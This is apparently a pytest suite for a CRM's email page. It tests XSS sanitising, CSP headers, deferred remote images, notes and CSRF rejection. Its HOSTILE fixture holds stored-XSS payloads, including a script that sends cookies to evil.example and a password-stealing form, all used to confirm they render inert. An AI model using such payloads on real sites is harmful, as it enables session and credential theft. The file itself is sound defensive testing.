"""The email page: inert stored XSS, remote images only after "Show images", the
CSP behind both, attachments, linked records, notes and the conversation."""

from __future__ import annotations

import re

from sqlalchemy import select

from server.crm.models import Email, Note
from tests.support.arrange_contacts import add_contact
from tests.support.arrange_records import filed_email, user_of
from tests.support.identities import ADELE, ADELE_OID, CONTOSO

HOSTILE = """
<p>Invoice attached.</p>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<img src="x" onerror="alert(1)">
<a href="javascript:alert(2)">Pay now</a>
<a href="JaVaScRiPt:alert(3)">Pay later</a>
<div onclick="alert(4)" style="color: red">Click</div>
<svg><script>alert(5)</script></svg>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/steal"><input name="password"></form>
<math><mtext><style><img src=x onerror=alert(6)></style></mtext></math>
"""


def csp(response) -> dict[str, str]:
    policy = response.headers["Content-Security-Policy"]
    return {part.split()[0]: " ".join(part.split()[1:]) for part in policy.split(";") if part.strip()}


def body_of(html: str) -> str:
    return re.search(r'<section class="email-body"[^>]*>(.*?)</section>', html, re.S).group(1)


def adele_email(crm, **kw):
    return filed_email(crm, user_of(crm, CONTOSO, ADELE_OID, ADELE), **kw)


def test_stored_xss_renders_inert(browser, crm):
    email = adele_email(crm, subject="<script>alert('subject')</script>", body_html=HOSTILE)
    response = browser().get(f"/crm/emails/{email.id}")
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    assert "<script" not in html.lower()
    assert "&lt;script&gt;alert(&#39;subject&#39;)&lt;/script&gt;" in html  # the subject, escaped
    body = body_of(html).lower()
    assert "invoice attached" in body and "pay now" in body
    for needle in ("onerror", "onclick", "javascript:", "<iframe", "<form", "<svg", "<input", "evil.example"):
        assert needle not in body, needle


def test_body_is_sanitised_again_when_shown(browser, crm):
    # A row written by anything other than filing (an old import, a bug) is still made safe.
    email = adele_email(crm, body_html="<p>ok</p>")
    crm.get(
        Email, email.id
    ).body_html = '<p>ok</p><script>alert(1)</script><a href="javascript:x()">x</a><img src=x onerror=alert(1)>'
    crm.commit()
    html = browser().get(f"/crm/emails/{email.id}").get_data(as_text=True)
    assert "<script" not in html.lower() and "javascript:" not in html.lower() and "onerror" not in html.lower()


def test_pages_carry_a_strict_csp(browser, crm, emulator):
    email = adele_email(crm)
    adele = browser()
    for path in ("/crm/", f"/crm/emails/{email.id}", "/crm/search?q=a", "/crm/settings"):
        response = adele.get(path)
        policy = csp(response)
        assert policy["script-src"] == "'self'", path
        assert "unsafe-inline" not in policy["script-src"] and "unsafe-inline" not in policy["style-src"]
        assert policy["object-src"] == "'none'" and policy["base-uri"] == "'none'"
        ancestors = policy["frame-ancestors"].split()
        assert "https://outlook.office.com" in ancestors and "https://outlook.office365.com" in ancestors
        assert "'self'" in ancestors and "*" not in ancestors and "https:" not in ancestors
        assert all(a in ("'self'", "http://localhost:5000", emulator.base_url) or "outlook" in a for a in ancestors)
        assert response.headers["Cache-Control"] == "no-store"


def test_remote_images_load_only_after_show_images(browser, crm):
    email = adele_email(
        crm,
        body_html=(
            '<p>Newsletter</p><img src="https://tracker.example/pixel.gif?u=adele" alt="logo">'
            '<img src="http://cdn.example/banner.png"><img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">'
        ),
    )
    adele = browser()
    before = adele.get(f"/crm/emails/{email.id}")
    html = before.get_data(as_text=True)
    body = body_of(html)
    assert not re.search(r'<img[^>]*\ssrc="https?://', body)
    assert 'data-src="https://tracker.example/pixel.gif?u=adele"' in body
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in body  # inline images need no network
    assert f'href="/crm/emails/{email.id}?images=1"' in html and "Show images" in html
    assert csp(before)["img-src"] == "'self' data:"

    after = adele.get(f"/crm/emails/{email.id}?images=1")
    body = body_of(after.get_data(as_text=True))
    assert 'src="https://tracker.example/pixel.gif?u=adele"' in body
    assert 'src="http://cdn.example/banner.png"' in body
    assert 'referrerpolicy="no-referrer"' in body
    assert "https:" in csp(after)["img-src"].split()


def test_no_show_images_offer_without_remote_images(browser, crm):
    email = adele_email(crm, body_html="<p>Plain</p>")
    response = browser().get(f"/crm/emails/{email.id}?images=1")
    assert "Show images" not in response.get_data(as_text=True)
    assert csp(response)["img-src"] == "'self' data:"


def test_email_page_shows_header_attachments_links_and_conversation(browser, crm):
    lynne = add_contact(crm, CONTOSO, "Lynne Robbins", "lynne.robbins@northwind.example", company="Northwind Traders")
    gone = add_contact(crm, CONTOSO, "Old Colleague", "old@northwind.example")
    gone.soft_delete()
    crm.commit()
    first = adele_email(
        crm,
        subject="Offer",
        conversation_id="conv-1",
        minutes=1,
        links=[
            ("contact", lynne.id, "address"),
            ("company", lynne.company_id, "company"),
            ("contact", gone.id, "address"),
        ],
        attachments=[{"name": "offer.pdf", "content_type": "application/pdf", "size": 20480}],
    )
    adele_email(crm, subject="Re: Offer", conversation_id="conv-1", minutes=5)
    html = browser().get(f"/crm/emails/{first.id}").get_data(as_text=True)
    assert "Lynne Robbins" in html and "lynne.robbins@northwind.example" in html
    assert "offer.pdf" in html and "application/pdf" in html and "20.0 KB" in html
    assert f'href="/crm/contacts/{lynne.id}"' in html
    assert f'href="/crm/companies/{lynne.company_id}"' in html
    assert "Old Colleague" in html and "deleted contact" in html
    assert f'href="/crm/contacts/{gone.id}"' not in html
    assert "Re: Offer" in html


def test_notes_are_added_with_the_form_token(browser, crm):
    email = adele_email(crm)
    adele = browser()
    response = adele.post_form(
        f"/crm/emails/{email.id}/notes", {"body": "Call back <b>Monday</b>"}, token_from=f"/crm/emails/{email.id}"
    )
    assert response.status_code == 303
    html = adele.get(f"/crm/emails/{email.id}").get_data(as_text=True)
    assert "Call back &lt;b&gt;Monday&lt;/b&gt;" in html
    assert crm.scalar(select(Note.body).where(Note.email_id == email.id)) == "Call back <b>Monday</b>"


def test_a_note_over_the_limit_is_refused_in_the_words_the_api_uses(browser, pane, crm):
    email = adele_email(crm)
    adele = browser()
    too_long = "n" * 20_001
    message = "Note is too long: at most 20,000 characters."

    page = adele.post_form(f"/crm/emails/{email.id}/notes", {"body": too_long}, token_from=f"/crm/emails/{email.id}")
    assert page.status_code == 303
    html = adele.get(f"/crm/emails/{email.id}").get_data(as_text=True)
    assert f'<p class="alert alert-error" role="alert">{message}</p>' in html
    assert 'maxlength="20000"' in html  # the form says the same limit

    api = pane(ADELE).post(f"/emails/{email.id}/notes", json={"body": too_long})
    assert api.status_code == 400
    assert (api.json["error"]["code"], api.json["error"]["message"]) == ("field_too_long", message)
    assert crm.scalars(select(Note.body).where(Note.email_id == email.id)).all() == []

    at_limit = adele.post_form(
        f"/crm/emails/{email.id}/notes", {"body": "n" * 20_000}, token_from=f"/crm/emails/{email.id}"
    )
    assert at_limit.status_code == 303
    assert [len(b) for b in crm.scalars(select(Note.body).where(Note.email_id == email.id))] == [20_000]


def test_forged_form_posts_get_400(browser, crm, app):
    email = adele_email(crm)
    adele = browser()
    path = f"/crm/emails/{email.id}/notes"
    no_token = adele.client.post(path, data={"body": "forged"})
    assert no_token.status_code == 400
    assert "did not come from this site" in no_token.get_data(as_text=True)
    assert adele.client.post(path, data={"body": "forged", "csrf_token": "guess"}).status_code == 400
    megan = browser("megan.bowen@contoso.com")
    others = megan.csrf_token()
    assert adele.client.post(path, data={"body": "forged", "csrf_token": others}).status_code == 400
    as_api = adele.client.post(path, data={"body": "forged"}, headers={"Accept": "application/json"})
    assert as_api.status_code == 400
    assert as_api.get_json()["error"]["code"] == "invalid_request"
    cross_site = adele.client.post(
        path, data={"body": "forged", "csrf_token": adele.csrf_token()}, headers={"Origin": "https://evil.example"}
    )
    assert cross_site.status_code == 400
    for forged in ("/crm/settings/tenant", "/crm/settings/test-connection", "/auth/signout"):
        assert adele.client.post(forged, data={"auto_sync": "known_contacts"}).status_code == 400
    assert crm.scalar(select(Note.id).where(Note.email_id == email.id)) is None
